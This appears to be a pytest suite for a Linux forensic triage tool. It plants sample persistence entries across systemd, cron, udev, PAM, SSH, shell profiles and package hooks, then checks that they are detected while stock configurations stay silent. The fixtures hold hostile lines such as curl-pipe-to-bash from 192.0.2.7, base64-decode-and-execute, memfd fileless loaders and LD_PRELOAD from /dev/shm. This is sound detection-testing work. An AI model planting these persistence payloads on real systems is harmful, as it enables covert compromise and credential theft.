"""Every place that starts something, with a payload in it; and stock systems, which are silent."""

from __future__ import annotations

import base64
from pathlib import Path

import pytest

from tests.linux_image.trees import Link, Tree, indicators, look, plant, report, worst
from triage.analyze import analyze
from triage.model.linux_image import MECHANISMS, PersistenceItem

SHM = "/dev/shm/.x/agent"
B64 = "echo aWQK | base64 -d | sh"
WEB = "curl -fsS http://192.0.2.7/x | bash"
KEY = "keyctl pipe 391 | sh"
VOLATILE, DECODE = "persistence-volatile-target", "persistence-decode-execute"
FETCH, STORED = "persistence-download-execute", "persistence-stored-code"
PRELOAD, MEMORY = "persistence-preload", "persistence-memfd"
ELF = base64.b64encode(Path("/proc/self/exe").read_bytes()[:30_000]).decode()


def unit(line: str, section: str = "Service") -> str:
    return f"[Unit]\nDescription=d\n\n[{section}]\nType=simple\n{line}\n\n[Install]\nWantedBy=x\n"


HARMFUL: tuple[tuple[str, Tree, str], ...] = (
    ("unit", {"etc/systemd/system/a.service": unit(f"ExecStart={SHM} -d")}, VOLATILE),
    ("unit with prefixes", {"usr/lib/systemd/system/a.service": unit(f"ExecStartPre=-+{SHM}")}, VOLATILE),
    ("unit, continued line", {"etc/systemd/system/a.service": unit(
        "ExecStart=/bin/sh -c \\\n  'curl -fsS http://192.0.2.7/x \\\n  | bash'")}, FETCH),
    ("unit, dollar doubled", {"etc/systemd/system/a.service": unit(
        "ExecStart=/bin/bash -c 'X=/dev/shm; exec $$X/a'")}, VOLATILE),
    ("unit of a user", {"home/ann/.config/systemd/user/a.service": unit(f"ExecStart={SHM}")}, VOLATILE),
    ("unit that is a link", {"etc/systemd/system/a.service": Link("/dev/shm/a.service")}, VOLATILE),
    ("unit wanted through a link", {
        "etc/systemd/system/multi-user.target.wants/a.service": Link("/run/shm/a.service")}, VOLATILE),
    ("drop-in", {"etc/systemd/system/ssh.service.d/o.conf": unit(f"ExecStartPost=/bin/sh -c '{B64}'")},
     DECODE),
    ("unit's environment", {"etc/systemd/system/a.service": unit(
        "Environment=LD_PRELOAD=/dev/shm/x.so\nExecStart=/usr/bin/a")}, PRELOAD),
    ("socket unit", {"etc/systemd/system/a.socket": unit(f"ExecStartPre={SHM}", "Socket")}, VOLATILE),
    ("generator", {"etc/systemd/system-generators/g": f"#!/bin/sh\n{WEB}\n"}, FETCH),
    ("generator that is a link", {"usr/lib/systemd/system-generators/g": Link(SHM)}, VOLATILE),
    ("shutdown script", {"usr/lib/systemd/system-shutdown/s": f"#!/bin/sh\n{SHM}\n"}, VOLATILE),
    ("D-Bus service", {"usr/share/dbus-1/system-services/a.service":
        f"[D-BUS Service]\nName=a.b\nExec={SHM}\nUser=root\n"}, VOLATILE),
    ("crontab", {"etc/crontab": f"SHELL=/bin/sh\n*/5 * * * * root {SHM}\n"}, VOLATILE),
    ("cron.d, at boot", {"etc/cron.d/j": f"@reboot root {WEB}\n"}, FETCH),
    ("cron.d, tabs", {"etc/cron.d/j": f"1\t2\t*\t*\t*\troot\t{B64}\n"}, DECODE),
    ("cron spool", {"var/spool/cron/crontabs/ann": f"0 4 * * * {KEY}\n"}, STORED),
    ("cron spool of RHEL", {"var/spool/cron/root": f"*/9 * * * * {SHM} >/dev/null 2>&1\n"}, VOLATILE),
    ("cron, percent signs", {"etc/cron.d/j": "* * * * * root sh%/dev/shm/x%\n"}, VOLATILE),
    ("cron, variable", {"etc/cron.d/j": "D=/dev/shm\n* * * * * root /bin/sh -c \"D=/dev/shm; $D/x\"\n"},
     VOLATILE),
    ("cron.daily", {"etc/cron.daily/j": f"#!/bin/sh\nset -e\n{B64}\n"}, DECODE),
    ("anacron", {"etc/anacrontab": f"1 5 job {WEB}\n"}, FETCH),
    ("at", {"var/spool/cron/atjobs/a00001": f"#!/bin/sh\ncd /root || exit 1\n{SHM}\n"}, VOLATILE),
    ("rc.local", {"etc/rc.local": f"#!/bin/sh -e\n{WEB}\nexit 0\n"}, FETCH),
    ("init.d", {"etc/init.d/a": f"#!/bin/sh\ncase $1 in\nstart)\n  {SHM} &\n  ;;\nesac\n"}, VOLATILE),
    ("inittab", {"etc/inittab": f"x:2345:respawn:{SHM}\n"}, VOLATILE),
    ("upstart", {"etc/init/a.conf": f"start on startup\nexec {SHM}\n"}, VOLATILE),
    ("runit", {"etc/sv/a/run": f"#!/bin/sh\nexec {SHM}\n"}, VOLATILE),
    ("supervisor", {"etc/supervisor/conf.d/a.conf": f"[program:a]\ncommand={SHM}\n"}, VOLATILE),
    ("udev", {"etc/udev/rules.d/9.rules": f'ACTION=="add", KERNEL=="null", RUN+="{SHM}"\n'}, VOLATILE),
    ("udev, shell", {"usr/lib/udev/rules.d/9.rules":
        'SUBSYSTEM=="net", RUN+="/bin/sh -c \'curl http://192.0.2.7/x | sh\'"\n'}, FETCH),
    ("modprobe", {"etc/modprobe.d/a.conf": f"install usb-storage {SHM}; modprobe -i usb-storage\n"},
     VOLATILE),
    ("core_pattern", {"etc/sysctl.d/9.conf": "kernel.core_pattern=|/dev/shm/c %p\n"}, VOLATILE),
    ("binfmt", {"etc/binfmt.d/a.conf": ":x:E::foo::/dev/shm/i:\n"}, VOLATILE),
    ("profile.d", {"etc/profile.d/a.sh": f"({WEB}) >/dev/null 2>&1 &\n"}, FETCH),
    ("bashrc", {"home/ann/.bashrc": f"alias ls='ls --color'\n{B64}\n"}, DECODE),
    ("bashrc, trap", {"root/.bashrc": "trap '/dev/shm/x' DEBUG\n"}, VOLATILE),
    ("zshenv", {"home/ann/.zshenv": "source /dev/shm/z\n"}, VOLATILE),
    ("fish", {"home/ann/.config/fish/config.fish": "/dev/shm/x &\n"}, VOLATILE),
    ("environment", {"etc/environment": "PATH=/usr/bin\nLD_PRELOAD=/dev/shm/x.so\n"}, PRELOAD),
    ("ld.so.preload", {"etc/ld.so.preload": "/run/lock/x.so\n"}, PRELOAD),
    ("ld.so.conf.d", {"etc/ld.so.conf.d/0.conf": "/dev/shm/lib\n"}, PRELOAD),
    ("motd", {"etc/update-motd.d/99-x": f"#!/bin/sh\n{SHM}\n"}, VOLATILE),
    ("pam_exec", {"etc/pam.d/sshd": f"auth optional pam_exec.so quiet expose_authtok {SHM}\n"}, VOLATILE),
    ("pam module", {"etc/pam.d/sshd": "auth [success=1 default=ignore] /dev/shm/pam_x.so\n"}, VOLATILE),
    ("authorized key", {"root/.ssh/authorized_keys":
        f'no-pty,command="{SHM}" ssh-ed25519 AAAAC3Nz me\n'}, VOLATILE),
    ("ssh rc", {"etc/ssh/sshrc": f"{SHM}\n"}, VOLATILE),
    ("ForceCommand", {"etc/ssh/sshd_config": "Match User ann\n  ForceCommand /dev/shm/x\n"}, VOLATILE),
    ("autostart", {"home/ann/.config/autostart/a.desktop":
        "[Desktop Entry]\nType=Application\nExec=sh -c 'curl http://192.0.2.7/x|sh'\n"}, FETCH),
    ("apt hook", {"etc/apt/apt.conf.d/9": f'APT::Update::Pre-Invoke {{"{SHM}";}};\n'}, VOLATILE),
    ("dpkg hook", {"etc/dpkg/dpkg.cfg.d/9": f"post-invoke={SHM}\n"}, VOLATILE),
    ("pacman hook", {"etc/pacman.d/hooks/a.hook": f"[Action]\nWhen=PostTransaction\nExec={SHM}\n"},
     VOLATILE),
    ("dispatcher", {"etc/NetworkManager/dispatcher.d/9": f"#!/bin/bash\n{B64}\n"}, DECODE),
    ("interfaces", {"etc/network/interfaces": f"iface eth0 inet dhcp\n  post-up {SHM}\n"}, VOLATILE),
    ("logrotate", {"etc/logrotate.d/a": f"/var/log/a {{\n postrotate\n  {SHM}\n endscript\n}}\n"}, VOLATILE),
    ("sudo", {"etc/sudoers.d/a": "ann ALL=(ALL) NOPASSWD: /dev/shm/x\n"}, VOLATILE),
    ("xinetd", {"etc/xinetd.d/a": f"service a\n{{\n server = {SHM}\n user = root\n}}\n"}, VOLATILE),
    ("script that a unit starts", {"etc/systemd/system/a.service": unit("ExecStart=/opt/a/run.sh"),
        "opt/a/run.sh": f"#!/bin/bash\nsleep 3\n{WEB}\n"}, FETCH),
    ("script of Python", {"etc/cron.d/j": "* * * * * root /usr/bin/python3 /opt/a.py\n",
        "opt/a.py": "#!/usr/bin/python3\nimport os\nf=os.memfd_create('')\n"
        "os.write(f,D)\nos.execve('/proc/self/fd/%d'%f,['x'],{})\n"}, MEMORY),
    ("memfd in a unit", {"etc/systemd/system/a.service": unit(
        'ExecStart=/usr/bin/python3 -c "import os;f=os.memfd_create(\'a\');os.fexecve(f,[\'a\'],{})"')},
     MEMORY),
    ("program in a variable", {"etc/cron.d/j": f"B={ELF}\n* * * * * root /usr/local/bin/run-b\n"},
     "persistence-payload"),
    ("program in tmpfiles.d", {"usr/lib/tmpfiles.d/a.conf": f"f~ /run/a 0755 root root - {ELF}\n"},
     "persistence-payload"),
    ("executable from tmpfiles.d", {"etc/tmpfiles.d/a.conf":
        "C /dev/shm/x 0755 root root - /usr/share/doc/x\n"}, "image-executable-tmpfs"),
    ("hidden tmpfs", {"etc/fstab": "tmpfs /usr/lib/.c tmpfs rw,exec,size=9m 0 0\n"},
     "image-executable-tmpfs"),
    ("mount unit", {"etc/systemd/system/home-ann-.c.mount": unit(
        "What=tmpfs\nWhere=/home/ann/.c\nType=tmpfs", "Mount")}, "image-executable-tmpfs"),
    ("history", {"root/.bash_history": "ls\ncd /dev/shm && ./kworker\n"}, VOLATILE),
    ("file under /proc", {"proc/.h": "#!/bin/sh\nid\n" * 20}, "image-covered-file"),
    ("file in /dev/shm", {"dev/shm/k": "stolen words\n" * 50}, "image-covered-file"),
)  # fmt: skip

BENIGN: tuple[tuple[str, Tree], ...] = (
    ("sshd", {"usr/lib/systemd/system/ssh.service": unit(
        "EnvironmentFile=-/etc/default/ssh\nExecStartPre=/usr/sbin/sshd -t\n"
        "ExecStart=/usr/sbin/sshd -D $SSHD_OPTS\nExecReload=/bin/kill -HUP $MAINPID\n"
        "RuntimeDirectory=sshd\nPIDFile=/run/sshd.pid")}),
    ("docker", {"usr/lib/systemd/system/docker.service": unit(
        "ExecStart=/usr/bin/dockerd -H fd:// --containerd=/run/containerd/containerd.sock")}),
    ("snapd", {"usr/lib/systemd/system/snapd.service": unit("ExecStart=/usr/lib/snapd/snapd"),
        "etc/systemd/system/snap-core20-1.mount": unit(
            "What=/var/lib/snapd/snaps/core20_1.snap\nWhere=/snap/core20/1\nType=squashfs", "Mount")}),
    ("gdm", {"usr/lib/systemd/system/gdm.service": unit(
        "ExecStartPre=/usr/share/gdm/generate-config\nExecStart=/usr/sbin/gdm3\n"
        "Environment=GDM_RUN=/run/gdm3")}),
    ("cloud-init", {"usr/lib/systemd/system/cloud-init.service": unit(
        "ExecStart=/usr/bin/cloud-init init\nExecStart=/bin/sh -c 'touch /run/cloud-init/enabled'"),
        "usr/lib/systemd/system-generators/cloud-init-generator":
        "#!/bin/sh\nset -u\nLOG=\"\"\nRUN_ENABLED_FILE=\"/run/cloud-init/enabled\"\n"
        "[ -f /etc/cloud/cloud-init.disabled ] && exit 0\nln -snf /lib/x \"$1/x\"\n"}),
    ("dracut", {"usr/lib/systemd/system/dracut-shutdown.service": unit(
        "ExecStart=/bin/true\nExecStop=/usr/lib/dracut/dracut-initramfs-restore")}),
    ("apt timers", {"usr/lib/systemd/system/apt-daily.service": unit(
        "ExecStartPre=-/usr/lib/apt/apt-helper wait-online\nExecStart=/usr/lib/apt/apt.systemd.daily update")}),
    ("mysql", {"usr/lib/systemd/system/mysql.service": unit(
        "ExecStartPre=/bin/sh -c '[ ! -e /usr/bin/galera_recovery ] && VAR= || "
        "VAR=`/usr/bin/galera_recovery`; [ $? -eq 0 ] && systemctl set-environment _W=$VAR || exit 1'\n"
        "ExecStart=/usr/sbin/mysqld --pid-file=/run/mysqld/mysqld.pid")}),
    ("redis with jemalloc", {"etc/systemd/system/redis.service": unit(
        "Environment=LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2\n"
        "ExecStart=/usr/bin/redis-server /etc/redis.conf --unixsocket /run/redis/redis.sock")}),
    ("PrivateTmp", {"etc/systemd/system/a.service": unit(
        "PrivateTmp=yes\nWorkingDirectory=/tmp\nExecStart=/usr/bin/java -Djava.io.tmpdir=/tmp -jar /opt/a.jar")}),
    ("generators", {"usr/lib/systemd/system-generators/lvm2-activation-generator":
        b"\x7fELF\x02\x01\x01" + bytes(600)}),
    ("masked", {"etc/systemd/system/x.service": Link("/dev/null")}),
    ("transient and runtime names", {"etc/systemd/system/a.socket": unit(
        "ListenStream=/run/a.sock\nListenFIFO=/run/a.fifo", "Socket")}),
    ("Debian's crontab", {"etc/crontab": "SHELL=/bin/sh\nPATH=/usr/local/sbin:/usr/bin\n"
        "17 * * * * root cd / && run-parts --report /etc/cron.hourly\n"
        "25 6 * * * root test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }\n"}),
    ("cron.d of PHP and mdadm", {"etc/cron.d/php":
        "09,39 * * * * root [ -x /usr/lib/php/sessionclean ] && if [ ! -d /run/systemd/system ]; then "
        "/usr/lib/php/sessionclean; fi\n", "etc/cron.d/mdadm":
        "57 0 * * 0 root if [ -x /usr/share/mdadm/checkarray ] && [ $(date +\\%d) -le 7 ]; then "
        "/usr/share/mdadm/checkarray --cron --all --idle --quiet; fi\n"}),
    ("certbot", {"etc/cron.d/certbot": "0 */12 * * * root test -x /usr/bin/certbot -a \\! -d "
        "/run/systemd/system && perl -e 'sleep int(rand(43200))' && certbot -q renew\n"}),
    ("backup", {"var/spool/cron/crontabs/ann": "MAILTO=ann\n0 3 * * * /usr/bin/flock -n "
        "/tmp/b.lock /home/ann/bin/backup >> /tmp/backup.log 2>&1\n"}),
    ("monitor", {"etc/cron.d/m": "*/5 * * * * root curl -fsS -m 10 https://hc.example/x -o /dev/null\n"}),
    ("cleaning", {"etc/cron.d/c": "0 1 * * * root find /tmp /dev/shm -type f -mtime +7 -delete\n"}),
    ("cron.daily scripts", {"etc/cron.daily/dpkg":
        "#!/bin/sh\ndbdir=/var/lib/dpkg\nif cd /var/backups; then\n"
        "  gzip -dc < dpkg.status.1.gz > /tmp/s && cmp -s /tmp/s $dbdir/status || cp $dbdir/status .\nfi\n",
        "etc/cron.daily/man-db": "#!/bin/sh\nset -e\n"
        "iosched_idle=\nif ! [ -d /var/cache/man ]; then install -d -o man /var/cache/man; fi\n"}),
    ("anacrontab", {"etc/anacrontab": "SHELL=/bin/sh\n1\t5\tcron.daily\trun-parts --report "
        "/etc/cron.daily\n@monthly 15 cron.monthly run-parts --report /etc/cron.monthly\n"}),
    ("rc.local", {"etc/rc.local": "#!/bin/sh -e\n# By default this script does nothing.\n"
        "echo noop > /sys/block/sda/queue/scheduler\nexit 0\n"}),
    ("init.d", {"etc/init.d/ssh": "#!/bin/sh\n. /lib/lsb/init-functions\nPID=/run/sshd.pid\n"
        "case \"$1\" in\nstart)\n start-stop-daemon --start --quiet --oknodo --pidfile $PID "
        "--exec /usr/sbin/sshd\n;;\nstop)\n start-stop-daemon --stop --pidfile $PID\n;;\nesac\n"}),
    ("udev", {"usr/lib/udev/rules.d/60.rules":
        'KERNEL=="sd*", PROGRAM="/lib/udev/scsi_id -g -d $devnode", SYMLINK+="x/%c"\n'
        'RUN+="socket:@/org/freedesktop/hal/udev_event"\nIMPORT{builtin}="path_id"\n'
        'ACTION=="add", RUN+="/bin/sh -c \'echo 1 > /sys$devpath/x\'"\n'}),
    ("modprobe", {"etc/modprobe.d/b.conf": "blacklist pcspkr\ninstall dccp /bin/true\n"
        "install snd /sbin/modprobe --ignore-install snd && /usr/sbin/alsactl restore\n"}),
    ("sysctl", {"usr/lib/sysctl.d/50-coredump.conf":
        "kernel.core_pattern=|/usr/lib/systemd/systemd-coredump %P %u %g %s %t %c %h\n"}),
    ("binfmt", {"usr/lib/binfmt.d/qemu.conf":
        ":qemu-arm:M::\\x7fELF\\x01:\\xff\\xff\\xff\\xff:/usr/bin/qemu-arm:F\n"}),
    ("profile", {"etc/profile.d/x.sh": "if [ -d /run/user/$(id -u) ]; then export XDG=1; fi\n"
        "eval \"$(dircolors -b)\"\n[ -r /usr/share/bash-completion/x ] && . /usr/share/bash-completion/x\n"}),
    ("bashrc", {"home/ann/.bashrc": "case $- in *i*) ;; *) return;; esac\nHISTSIZE=1000\n"
        "[ -x /usr/bin/lesspipe ] && eval \"$(SHELL=/bin/sh lesspipe)\"\n"
        "source <(kubectl completion bash)\neval \"$(pyenv init -)\"\n"
        "export NVM_DIR=\"$HOME/.nvm\"\n[ -s \"$NVM_DIR/nvm.sh\" ] && . \"$NVM_DIR/nvm.sh\"\n"
        "if ! shopt -oq posix; then . /etc/bash_completion; fi\n"}),
    ("ssh-agent", {"home/ann/.zshrc": "export SSH_AUTH_SOCK=/run/user/1000/keyring/ssh\n"
        "eval $(ssh-agent) > /dev/null\nplugins=(git)\nsource $ZSH/oh-my-zsh.sh\n"}),
    ("environment", {"etc/environment": 'PATH="/usr/local/sbin:/usr/bin"\nLANG=C.UTF-8\n'}),
    ("ld.so.conf", {"etc/ld.so.conf": "include /etc/ld.so.conf.d/*.conf\n",
        "etc/ld.so.conf.d/libc.conf": "# libc\n/usr/local/lib\n/usr/lib/x86_64-linux-gnu\n"}),
    ("monitoring agent", {"etc/ld.so.preload": "/lib/x86_64-linux-gnu/liboneagentproc.so\n"}),
    ("motd", {"etc/update-motd.d/50-news": "#!/bin/sh\n[ -r /etc/default/motd-news ] && . /etc/default/motd-news\n"
        "curl --connect-timeout 5 -A \"ua\" -o \"$NEWS\" \"$URL\" >/dev/null 2>&1\ncat /run/motd.dynamic\n"}),
    ("pam", {"etc/pam.d/common-session": "session [default=1] pam_permit.so\n"
        "session optional pam_systemd.so\nsession optional pam_exec.so type=open_session /usr/bin/x\n"}),
    ("authorized keys", {"home/ann/.ssh/authorized_keys":
        'command="/usr/bin/rrsync /backup",no-pty ssh-ed25519 AAAA x\nssh-rsa AAAAB3Nza ann\n'}),
    ("sshd_config", {"etc/ssh/sshd_config": "Subsystem sftp /usr/lib/openssh/sftp-server\n"
        "AuthorizedKeysCommand /usr/bin/sss_ssh_authorizedkeys\n"}),
    ("autostart", {"etc/xdg/autostart/x.desktop":
        "[Desktop Entry]\nName=x\nExec=sh -c '/usr/bin/x --sm-disable'\nTryExec=x\n"}),
    ("apt hooks", {"etc/apt/apt.conf.d/50": 'DPkg::Post-Invoke { "test -x /usr/bin/debsums && '
        'if [ -d /run/x ]; then /usr/bin/debsums -ac || true; fi"; };\nDPkg::Pre-Install-Pkgs '
        '{"/usr/sbin/dpkg-preconfigure --apt || true";};\nAPT::Update::Post-Invoke-Success '
        '{ "/usr/bin/test -e /usr/share/dbus-1/x && gdbus call --system > /dev/null; true"; };\n'}),
    ("dispatcher", {"etc/NetworkManager/dispatcher.d/01": "#!/bin/sh\nif [ -x /usr/sbin/ifup ]; then "
        "run-parts /etc/network/if-up.d; fi\n"}),
    ("logrotate", {"etc/logrotate.d/nginx": "/var/log/nginx/*.log {\n daily\n postrotate\n"
        "  [ ! -f /run/nginx.pid ] || kill -USR1 `cat /run/nginx.pid`\n endscript\n}\n"}),
    ("sudoers", {"etc/sudoers": "Defaults env_reset\nroot ALL=(ALL:ALL) ALL\n%sudo ALL=(ALL:ALL) ALL\n"}),
    ("fstab", {"etc/fstab": "UUID=1 / ext4 defaults 0 1\ntmpfs /tmp tmpfs rw,nosuid,nodev 0 0\n"
        "tmpfs /dev/shm tmpfs defaults,noexec 0 0\ntmpfs /var/lib/mysql-tmp tmpfs size=1g 0 0\n"
        "/swapfile none swap sw 0 0\ntmpfs /var/log tmpfs size=64m 0 0\n"}),
    ("tmpfiles.d", {"usr/lib/tmpfiles.d/x.conf": "d /run/sshd 0755 root root -\n"
        "f /run/utmp 0664 root utmp -\nL+ /run/x - - - - /usr/lib/x\nC /run/app.conf 0644 - - - /etc/app\n"
        "D! /tmp/.X11-unix 1777 root root 10d\nw /sys/x - - - - 1\n"}),
    ("NixOS", {"etc/systemd/system/n.service": unit("ExecStart=/run/current-system/sw/bin/nix-gc")}),
    ("certificate in a variable", {"etc/cron.d/j": "CA=" + base64.b64encode(
        b"-----BEGIN CERTIFICATE-----\n" + b"QUJDREVGR0g=" * 40).decode() + "\n1 1 * * * root /usr/bin/a\n"}),
    ("placeholders", {"dev/shm/.keep": "", "proc/.keep": "", "etc/hostname": "h\n"}),
    ("history of a day", {"root/.bash_history": "ls\ncd /tmp\n./configure && make\nvim /etc/x\n"
        "cat /dev/shm/x\ncurl -s http://localhost | jq .\n"}),
)  # fmt: skip


@pytest.mark.parametrize(
    ("tree", "expected"), [c[1:] for c in HARMFUL], ids=[c[0] for c in HARMFUL]
)
def test_a_payload_is_found_in_its_place(tmp_path: Path, tree: Tree, expected: str) -> None:
    found = report(tmp_path, tree)
    assert expected in indicators(found)
    assert worst(found) >= 21


@pytest.mark.parametrize("tree", [c[1] for c in BENIGN], ids=[c[0] for c in BENIGN])
def test_a_stock_setting_is_silent(tmp_path: Path, tree: Tree) -> None:
    assert indicators(report(tmp_path, tree)) == set()


def test_a_whole_stock_system_is_silent_and_read(tmp_path: Path) -> None:
    for _, tree in BENIGN[:-3]:
        for name, what in tree.items():
            path = tmp_path / name
            if not path.is_symlink() and not path.exists():
                plant(tmp_path, {name: what})
                (tmp_path / "etc/passwd").unlink()
    snapshot = look(plant(tmp_path, {}))
    assert indicators(analyze(snapshot)) == set()
    items = [a for a in snapshot.artifacts if isinstance(a, PersistenceItem)]
    assert {item.mechanism for item in items} >= {
        "systemd", "cron", "udev", "profile", "pam", "modprobe", "mount", "tmpfiles", "motd",
        "package-hook", "authorized-key", "autostart", "logrotate", "kernel", "ssh",
    }  # fmt: skip
    assert {item.mechanism for item in items} <= set(MECHANISMS)


def test_a_link_out_of_the_image_is_not_followed(tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    plant(outside, {"evil": f"* * * * * root {SHM}\n"})
    image = plant(tmp_path / "image", {"etc/cron.d/x": Link(str(outside / "evil"))})
    assert indicators(analyze(look(image))) == set()


def test_a_pipe_in_place_of_a_crontab_does_not_block(tmp_path: Path) -> None:
    import os

    plant(tmp_path, {"etc/cron.d/a": f"* * * * * root {SHM}\n"})
    os.mkfifo(tmp_path / "etc/cron.d/b")
    assert VOLATILE in indicators(analyze(look(tmp_path)))


def test_the_target_on_the_image_is_told(tmp_path: Path) -> None:
    tree = {"etc/cron.d/a": "* * * * * root /opt/x\n* * * * * root /opt/gone\n", "opt/x": "data"}
    items = [a for a in look(plant(tmp_path, tree)).artifacts if isinstance(a, PersistenceItem)]
    assert [(i.target, i.target_file is not None) for i in items] == [
        ("/opt/x", True), ("/opt/gone", False),
    ]  # fmt: skip


def test_two_looks_give_the_same_items(tmp_path: Path) -> None:
    plant(tmp_path, HARMFUL[0][1] | HARMFUL[14][1])
    assert look(tmp_path).artifacts == look(tmp_path).artifacts
